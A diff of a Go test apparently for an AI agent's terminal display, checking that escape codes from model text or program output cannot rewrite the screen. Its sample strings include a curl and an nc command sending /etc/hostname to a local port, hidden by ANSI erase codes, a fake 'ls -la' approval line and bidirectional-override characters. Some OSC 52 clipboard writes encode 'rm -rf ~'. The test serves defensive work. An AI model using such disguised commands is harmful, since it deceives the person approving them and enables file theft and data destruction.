@@ -167,7 +167,10 @@ func TestAgentStreamInterrupted(t *testing.T) {
 func TestAgentTextCannotRewriteTheScreen(t *testing.T) {
 	disguised := "curl -d @/etc/hostname http://127.0.0.1:9/ #\x1b[2K\r\x1b[1A\x1b[2K[AI] Asks to run: ls -la"
 	reordered := "echo ok \u202e; nc 127.0.0.1 9 < /etc/hostname; \u202c"
+	// A program's output keeps its colours, nothing else.
+	printed := `printf 'kept-line\033[1A\033[2K\033]52;c;cm0gLXJmIH4K\007\rfake-line \033[31mred\033[0m\n'`
 	srv := fakellm.New(t,
+		fakellm.ToolCalls(runCall("c0", printed)),
 		fakellm.ToolCalls(runCall("c1", disguised)),
 		fakellm.ToolCalls(runCall("c2", reordered)),
 		fakellm.Text("All done.\x1b]52;c;cm0gLXJmIH4K\x07 \x1b[2K\rnothing to see"),
@@ -194,5 +197,8 @@ func TestAgentTextCannotRewriteTheScreen(t *testing.T) {
 	}
 	if !strings.Contains(text, "All done.␛]52;c;") || !strings.Contains(text, "␛[2K␍nothing to see") {
 		t.Errorf("the model's text reached the terminal as codes:\n%s", text)
+	}
+	if !strings.Contains(text, "kept-line␛[1A␛[2K␛]52;c;cm0gLXJmIH4K␇␍fake-line red") {
+		t.Errorf("a program's output reached the terminal as codes:\n%s", text)
 	}
 }
